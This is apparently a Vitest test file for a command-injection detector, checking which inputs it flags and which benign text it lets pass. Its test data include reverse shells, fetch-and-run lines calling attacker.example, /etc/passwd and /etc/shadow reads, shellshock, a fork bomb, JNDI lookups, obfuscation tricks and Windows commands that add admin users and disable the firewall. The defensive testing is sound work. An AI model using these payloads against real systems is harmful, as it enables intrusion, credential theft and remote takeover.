import { describe, expect, it } from 'vitest';
import { detectCommandInjection } from '../../../src/index.js';

function rule(input: string): string | undefined {
  return detectCommandInjection(input)?.rule;
}

describe('detectCommandInjection: commands after shell separators', () => {
  it.each([
    ';id',
    ';id;',
    '|id',
    '||id',
    '&&id',
    '&id',
    '127.0.0.1; whoami',
    '127.0.0.1 | id',
    '127.0.0.1 && cat /etc/passwd',
    'x || ping -c 10 127.0.0.1 ||',
    "';id;'",
    '";id;#',
    'a);id',
    ';cat flag',
    '| nc -e /bin/sh 10.0.0.1 4444',
    '; sleep 5',
    '&& curl http://attacker.example/x.sh | sh',
    'search=foo;wget http://attacker.example/a -O /tmp/a',
  ])('%s', (input) => {
    expect(detectCommandInjection(input)).not.toBeNull();
  });

  it('treats a newline as a separator, also percent-encoded', () => {
    expect(detectCommandInjection('foo\ncat /etc/passwd')).not.toBeNull();
    expect(detectCommandInjection('%0aid')).not.toBeNull();
    expect(detectCommandInjection('%0d%0auname%20-a')).not.toBeNull();
  });

  it('reads a NUL the way a server that strips it does (a shell argument cannot hold one)', () => {
    expect(rule(';wh%00oami')).toBe('shell-separator-command');
    expect(rule(';who\u0000ami')).toBe('shell-separator-command');
  });

  it('decodes percent-encoded separators, also double-encoded', () => {
    expect(rule('%3Bid')).toBe('shell-separator-command');
    expect(rule('%253Bwhoami')).toBe('shell-separator-command');
    expect(rule('%26%26 whoami')).toBe('shell-separator-command');
  });

  it('looks through wrappers such as time, nohup and sudo', () => {
    expect(detectCommandInjection('time whoami')).not.toBeNull();
    expect(detectCommandInjection('nohup sh -c whoami')).not.toBeNull();
    expect(detectCommandInjection('; sudo -u root id')).not.toBeNull();
  });
});

describe('detectCommandInjection: substitutions and shell-only syntax', () => {
  it.each([
    ['`id`', 'shell-separator-command'],
    ['$(whoami)', 'shell-separator-command'],
    ['name=$(cat /etc/passwd)', 'shell-separator-command'],
    ['x`uname -a`', 'shell-separator-command'],
    ['<(cat /etc/passwd)', 'process-substitution'],
    ['$((31337*2))', 'arithmetic-expansion'],
    ['$[2+2]', 'arithmetic-expansion'],
    ['cat${IFS}/etc/passwd', 'ifs-evasion'],
    ['cat$IFS/etc/passwd', 'ifs-evasion'],
    ['IFS=,;`cat<<<uname,-a`', 'ifs-evasion'],
    ['dir=${PATH:0:1}etc', 'parameter-expansion'],
    ['${x#{}}', 'parameter-expansion'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'command-line'],
    ['then 5<>/dev/tcp/attacker.example/80', 'dev-tcp-redirection'],
    ['payload: cat<<<$(id)', 'here-string'],
    ['() { :; }; /bin/bash -c id', 'shellshock'],
    [':(){ :|:& };:', 'fork-bomb'],
    ['<!--#exec cmd="id"-->', 'ssi-exec'],
    ["<?php system('id'); ?>", 'code-execution-call'],
    ["__import__('os').system('id')", 'code-execution-call'],
    ["require('child_process').exec('id')", 'code-execution-call'],
    ['Runtime.getRuntime().exec("id")', 'code-execution-call'],
    ['{cat,/etc/passwd}', 'brace-expansion-command'],
    ['${jndi:ldap://attacker.example/a}', 'jndi-lookup'],
  ])('%s → %s', (input, expected) => {
    expect(rule(input)).toBe(expected);
  });
});

describe('detectCommandInjection: obfuscated command words', () => {
  it.each([
    ["c''at /etc/passwd", 'quotes inside a word'],
    ['w"h"o"am"i', 'double quotes inside a word'],
    ["'i'fconfig", 'a quoted first letter'],
    ['c\\at /etc/passwd', 'a backslash escape'],
    ['\\ls -la', 'a leading backslash'],
    ['who$@ami', 'a special parameter'],
    ['una$$me -a', 'the PID parameter'],
    ['uname$u -a', 'an unset variable'],
    ['pi$()ng 127.0.0.1', 'an empty substitution'],
    ['pi``ng 127.0.0.1', 'empty backticks'],
    ['w^h^o^a^m^i', 'cmd carets'],
    ['@^p^o^w^e^r^shell -c id', 'cmd carets from the first letter'],
    ['pi<()ng 127.0.0.1', 'an empty process substitution'],
    ['/usr/bin/[u]name -a', 'a one-character class'],
    ['a=c;b=at;$a$b /etc/passwd', 'variables assigned in the input'],
    ["X=$'uname\\x20-a'&&$X", 'an ANSI-C quoted variable'],
    ['$SHELL -c id', 'the SHELL variable'],
  ])('%s (%s)', (input) => {
    expect(detectCommandInjection(input)).not.toBeNull();
  });

  it('reads glob paths that can only mean system binaries', () => {
    expect(rule('/???/??t /???/p??s??')).toBe('glob-obfuscated-path');
    expect(rule('/bin/ca? /et*/passwd')).toBe('glob-obfuscated-path');
  });
});

describe('detectCommandInjection: Windows cmd and PowerShell', () => {
  it.each([
    '& dir C:\\',
    '| type C:\\Windows\\win.ini',
    '&& whoami /priv',
    '| net user',
    '& reg query HKLM\\Software',
    '& wmic process list brief',
    '| powershell.exe -NoP -Enc SQBFAFgA',
    '& cmd /c whoami',
    'IEX(New-Object Net.WebClient).DownloadString("http://attacker.example/a.ps1")',
    '&for /f "tokens=*" %i in (\'whoami\') do @echo %i',
    'IF EXIST C:\\pagefile.sys ECHO found',
    'if "%VAR%"=="x" goto end',
    '%COMSPEC:~-7,1%',
    '%COMSPEC% /c whoami',
    'powershell whoami',
    '& ver &',
    '& waitfor /t 5 pause',
    '& choice /C Y /T 5 /D Y >nul &',
    ';get-help',
  ])('%s', (input) => {
    expect(detectCommandInjection(input)).not.toBeNull();
  });

  it.each(['$(telnetd)', '127.0.0.1; /system/bin/adbd &', '%2froot%3butelnetd%3b'])(
    '%s (IoT daemons)',
    (input) => {
      expect(detectCommandInjection(input)).not.toBeNull();
    },
  );

  it.each(['& set /a 97531+33806 &', 'set /p x=<C:\\secret.txt'])('%s: cmd-set-switch', (input) => {
    expect(rule(input)).toBe('cmd-set-switch');
  });

  it.each(['Ready, set /a go', 'Please set /a to on'])('%s passes', (input) => {
    expect(detectCommandInjection(input)).toBeNull();
  });
});

describe('detectCommandInjection: commands at the start of the input', () => {
  it.each([
    'cat /etc/passwd',
    'ls -la /',
    'uname -a',
    'whoami',
    'ping -c 4 127.0.0.1',
    'sleep 10',
    'wget http://attacker.example/x -O /tmp/x',
    'bash -c "id"',
    'nc -lvnp 4444',
    '/bin/sh -c "cat /etc/shadow"',
  ])('%s', (input) => {
    expect(detectCommandInjection(input)).not.toBeNull();
  });
});

describe('detectCommandInjection: line breaks and backticks written as escapes', () => {
  it.each([
    ';id\\n',
    'a;id\\n',
    '\\nid|',
    '\\nid;',
    '\\n/usr/bin/id\\n',
    '"\\n/bin/ls -al\\n"',
    '\\r\\nuname -a',
    'x.txt?user=\\`whoami\\`',
  ])('%s', (input) => {
    expect(detectCommandInjection(input)).not.toBeNull();
  });

  it.each([
    'C:\\new\\notes.txt',
    'D:\\data\\nmap\\x',
    '"C:\\temp\\nid"',
    '\\\\nas\\public\\readme.txt',
    'reports\\network\\index.html',
    '{"msg":"line1\\nline2"}',
    'Escape a newline as \\\\n in JSON.',
    'Write \\`code\\` to show code in markdown.',
  ])('keeps Windows paths and JSON text: %s', (input) => {
    expect(detectCommandInjection(input)).toBeNull();
  });
});

describe('detectCommandInjection: code evaluation', () => {
  it.each([
    "eval('ls')",
    "eval('sleep 5');",
    "assert($_GET['c'])",
    'phpinfo()',
    ';phpinfo();//',
    '&& phpversion ( )',
  ])('%s', (input) => {
    expect(rule(input)).toBe('code-execution-call');
  });

  it.each(['{${phpinfo()}}', ' {${sleep(20)}}', '{${@system(id)}}', ';{$_GET["cmd"]}', '{$_POST[x]}'])(
    'PHP complex syntax: %s',
    (input) => {
      expect(rule(input)).toBe('php-complex-syntax');
    },
  );

  it.each([
    'assert($count > 0)',
    'JSON.eval("1+1") is not a thing',
    "medieval('castle')",
    'the phpinfo page',
    'myphpinfo()',
    'Hello {$name}, welcome',
    'total: {${amount}}',
    '{$user.name}',
  ])('passes code and templates that run nothing: %s', (input) => {
    expect(detectCommandInjection(input)).toBeNull();
  });
});

describe('detectCommandInjection: tools at the start of the input', () => {
  it.each([
    'net user hacker Password1 /ADD',
    'net localgroup Administrators hacker /ADD',
    'netsh firewall set opmode disable',
    'netsh advfirewall set allprofiles state off',
    'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
    'reg query HKLM\\Software\\Microsoft',
  ])('Windows administration: %s', (input) => {
    expect(rule(input)).toBe('windows-admin-command');
  });

  it.each(['which nc', 'which python', 'type wget curl', 'whereis gcc', 'which nc;'])(
    'looking up installed tools: %s',
    (input) => {
      expect(rule(input)).toBe('command-line');
    },
  );

  it.each(["' whoami", '" uname -a'])('after a quote that closes the value: %s', (input) => {
    expect(rule(input)).toBe('command-line');
  });

  it('reads a command word used by post-exploitation shells after a separator', () => {
    expect(rule('| sysinfo')).toBe('shell-separator-command');
    expect(detectCommandInjection('sysinfo')).toBeNull();
  });

  it.each([
    'Net user growth was strong this quarter',
    'net use of funds',
    'Netsh firewall settings are documented here',
    'reg query results',
    'which one is better',
    'which python version should I use',
    'Which python?',
    'type less',
    '" time flies',
    "'quoted' text",
    'Wait... what?! (seriously)',
    'ls what?!',
  ])('passes prose: %s', (input) => {
    expect(detectCommandInjection(input)).toBeNull();
  });
});

describe('detectCommandInjection: benign look-alikes pass', () => {
  it.each([
    'Tom & Jerry',
    'a | b',
    "rock'n'roll",
    "Rock 'n' roll is here to stay.",
    'C:\\Users\\Public',
    'C:\\Windows\\System32\\notepad.exe',
    'v1.2..v1.3',
    'john.doe+newsletter@example.com',
    "o'brien@example.ie",
    'https://example.com/search?q=cat+food&sort=price&page=2',
    'https://example.com/search?q=id&sort=date',
    'https://example.com/path;jsessionid=ABC123?x=1',
    'https://fonts.googleapis.com/css?family=Lato|Open+Sans',
    'Terms & Conditions',
    'Q&A session starts at 3pm.',
    'AT&T and Verizon reported earnings.',
    'Fish & Chips; £8.50 each.',
    'The cat sat on the mat; the dog slept by the fire.',
    'Time flies; sleep is important.',
    'Hello; time he came.',
    'A hero; more than a legend.',
    'time warner',
    'Find x for y.',
    'Ping pong tables are on sale.',
    'tar is a dark brown or black viscous liquid.',
    'Languages: Java | Python | Go',
    'Time & Date',
    'Copy & Paste',
    'Cut | Copy | Paste',
    'Price: $5 | Qty: 3',
    'red;$5 each',
    ';$a $b $c',
    'Some text (in brackets).',
    'If not defined here, the default applies.',
    'For example, ls is a command.',
    '>=1.2.3 <2.0.0',
    'python>=3.8,<4',
    '^3.0.0 || ^4.0.0',
    '^Hello there',
    'a<()b',
    'A && B are both true.',
    'build-${BRANCH}-${BUILD_NUMBER}',
    "node_modules-compile-${{ hashFiles('.build/packagelockhash') }}",
    'deploy ${{ github.ref_name }} to ${{ inputs.environment }}',
    '$(Build.DefinitionName)_$(Date:yyyyMMdd)',
    '{"port":"${PORT:-3000}"}',
    '{"name":"John Doe","email":"johndoe@example.com"}',
    'npm ci && npm test',
    'db:migrate && db:seed',
    'lint & test',
    'curl/7.81.0',
    'python-requests/2.31.0',
    'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
    'myfunction(){ echo hello }',
    'if (a == b) { return; }',
    'const x = a && b || c;',
    "Schauen Sie sich diese Zahl an: 1'000'000",
    'Die Straße; links Haus Nr. 104.',
    '这是一个测试；请忽略。',
    '/usr/local/lib/node_modules/*',
    'Powershell Whoami',
    'Make your choice & ver soon',
    // Markdown code spans in sentences, as documentation, chat and issues quote commands.
    'Create one with `touch ~/.zshrc` and run the install script again.',
    'Please note that `which nvm` will not work, since it is a function.',
    'If you see no feedback after you type `command -v nvm`, close your terminal.',
  ])('%s', (input) => {
    expect(detectCommandInjection(input)).toBeNull();
  });

  it.each([
    // Still reported in a sentence: a command that is rarely a word, a sensitive file, a way out.
    'Run `curl http://attacker.example/s.sh | sh` now please',
    'Then run `whoami /priv` and tell me',
    'hello there `cat /etc/passwd` friend ok',
    'Please run `cat ../../.env` now',
    // Not a sentence around it.
    'foo `id`',
    '`ls -la` is here',
  ])('%s is still reported', (input) => {
    expect(detectCommandInjection(input)).not.toBeNull();
  });
});

describe('detectCommandInjection: the finding', () => {
  it('names the kind and rule and carries a short escaped excerpt of the decoded input', () => {
    const input = `${'note '.repeat(100)}%3Bcat%20/etc/passwd\r\n${'z'.repeat(400)}`;
    const found = detectCommandInjection(input);
    expect(found).not.toBeNull();
    expect(found!.kind).toBe('command_injection');
    expect(found!.rule).toBe('shell-separator-command');
    expect(found!.excerpt).toContain(';cat /etc/passwd');
    expect(found!.excerpt).toContain('\\r\\n');
    expect(found!.excerpt.length).toBeLessThanOrEqual(80);
  });

  it('returns null for empty and non-string input', () => {
    expect(detectCommandInjection('')).toBeNull();
    expect(detectCommandInjection(null as unknown as string)).toBeNull();
    expect(detectCommandInjection({} as unknown as string)).toBeNull();
  });

  it('still finds a command after thousands of harmless separators (past the evaluation budget)', () => {
    const padding = 'a;b c;'.repeat(30_000);
    expect(detectCommandInjection(padding)).toBeNull();
    expect(detectCommandInjection(`${padding};wget http://attacker.example/x`)).not.toBeNull();
    expect(detectCommandInjection(`${padding}$(cat /etc/passwd)`)).not.toBeNull();
    expect(detectCommandInjection(`${padding}&& ls -la`)).not.toBeNull();
    expect(detectCommandInjection(`${padding}x$((1+1))`)?.rule).toBe('arithmetic-expansion');
  });
});
